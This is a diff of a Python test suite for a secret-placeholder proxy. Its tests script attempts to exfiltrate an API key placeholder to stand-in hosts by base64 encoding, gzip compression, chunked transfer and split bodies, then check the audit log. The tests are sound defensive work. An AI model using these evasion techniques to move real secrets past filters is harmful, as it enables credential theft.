@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import base64
+import gzip
 from collections.abc import Iterator
 from datetime import timedelta
 from typing import Any
@@ -188,7 +189,7 @@ def test_a_name_that_is_pointed_elsewhere_takes_no_secret_along(scene: Scene) ->
 def test_the_placeholder_anywhere_else_is_refused_and_reported(
     scene: Scene, origins: tuple[Origin, ...]
 ) -> None:
-    """In the target, another's body, a trailer or another's header; encoded or not."""
+    """In the target, a trailer or another header; encoded or not."""
     ended = attack(
         scene,
         r"""
@@ -208,16 +209,6 @@ for host, talk in (("api.example", over), ("inside.example", lambda: over("insid
     tried(start + chunk(b"x") + b"0\r\nX-Last: " + key + b"\r\n\r\n")
     tried(get("/x", host, f"Authorization: Basic {coded}", LAST))
     tried(get("/x", host, f"X-Data: {coded}", LAST))
-    if host == "api.example":
-        continue
-    tried(post(host, b"a" * 100 + key))
-    tried(post(host, key[:half] + key[half:]))
-    body = post(host, key)
-    tried(body[:-half], body[-half:])
-    tried(body[:-20], *(body[at:at + 1] for at in range(len(body) - 20, len(body))))
-    tried(start + b"".join(chunk(key[at:at + 7]) for at in range(0, len(key), 7)) + b"0\r\n\r\n")
-    tried(start, chunk(key[:half]), chunk(key[half:]) + b"0\r\n\r\n")
-    tried(post(host, coded.encode()))
 tell(key=KEY)
 """
         + CONTROL,
@@ -227,29 +218,56 @@ tell(key=KEY)
     assert list(sent(origins)) == [("api.example", "x-api-key")]
     arrived = [visit.raw for origin in origins for visit in origin.visits]
     assert not any(stands.encode() in raw for raw in arrived)
-    assert ended.reasons.count("placeholder") >= 31
+    assert ended.reasons.count("placeholder") == 18
 
 
-def test_the_placeholder_in_a_body_to_its_own_host_passes_as_it_is(
-    scene: Scene, origins: tuple[Origin, ...]
+def test_a_placeholder_in_a_body_passes_unchanged_and_is_noted_once_per_host(
+    scene: Scene, origins: tuple[Origin, ...], inside: Origin
 ) -> None:
-    """An agent that once printed its environment says it again in every request to its model."""
+    """An agent that once printed its environment repeats it in every request to its model."""
     ended = attack(
         scene,
-        """
-body = b"my environment: KEY=" + KEY.encode()
-for _ in range(2):
-    tell(heard=say(over(), post("api.example", body, f"x-api-key: {KEY}")).decode())
+        r"""
+import base64, gzip
+key, half = KEY.encode(), len(KEY) // 2
+def chunk(data): return b"%x\r\n%s\r\n" % (len(data), data)
+packed = gzip.compress(b"KEY=" + key)
+for host, talk in (("api.example", over), ("inside.example", lambda: over("inside.example")),
+                   ("plain.example", lambda: dial("plain.example", 80))):
+    own = (f"x-api-key: {KEY}",) if host == "api.example" else ()
+    start = get("/echo", host, "Transfer-Encoding: chunked", *own, LAST, method="POST")
+    body = post(host, b"KEY=" + key, *own)
+    say(talk(), body[:-half], body[-half:], pause=0.05)
+    heard = say(talk(), body)
+    say(talk(), start, chunk(b"KEY=" + key[:half]), chunk(key[half:]) + b"0\r\n\r\n", pause=0.05)
+    say(talk(), post(host, base64.b64encode(b"KEY=" + key), *own))
+    say(talk(), post(host, packed, "Content-Encoding: gzip", *own))
+    tell(heard=heard.decode())
 tell(key=KEY)
-say(over("inside.example"), post("inside.example", body))
 """,
     )
-    heard, stands = told(ended)["heard"], str(told(ended)["key"])
-    assert stands in heard, "it comes back as it was sent"
-    bodies = [seen.body.decode() for seen in scene.sites.api.requests]
-    assert bodies == [f"my environment: KEY={stands}"] * 2
-    assert list(sent(origins)) == [("api.example", "x-api-key")] * 2
-    assert ended.reasons == ["placeholder-passed", "placeholder"], "told once"
+    stands = str(told(ended)["key"])
+    assert stands in told(ended)["heard"], "it comes back as it was sent"
+    plain, coded = f"KEY={stands}".encode(), base64.b64encode(f"KEY={stands}".encode())
+    for origin in (scene.sites.api, inside, scene.sites.plain):
+        *bodies, packed = [seen.body for seen in origin.requests]
+        assert bodies == [plain, plain, plain, coded] and gzip.decompress(packed) == plain
+    assert list(sent(origins)) == [("api.example", "x-api-key")] * 5, "in its header alone"
+    noted = [line["host"] for line in ended.audit if line["reason"] == "placeholder-passed"]
+    assert noted == ["api.example", "inside.example", "plain.example"], "once for each host"
+    assert set(ended.reasons) == {"placeholder-passed"}
+
+
+@pytest.mark.parametrize("cut", [7, 60])
+def test_a_placeholder_cut_in_two_is_noted(scene: Scene, cut: int) -> None:
+    ended = attack(
+        scene,
+        f"""
+body = post("inside.example", b"x" * 100 + KEY.encode())
+say(over("inside.example"), body[:-{cut}], body[-{cut}:], pause=0.05)
+""",
+    )
+    assert ended.reasons == ["placeholder-passed"]
 
 
 def test_an_echo_of_the_secret_is_covered(scene: Scene) -> None:
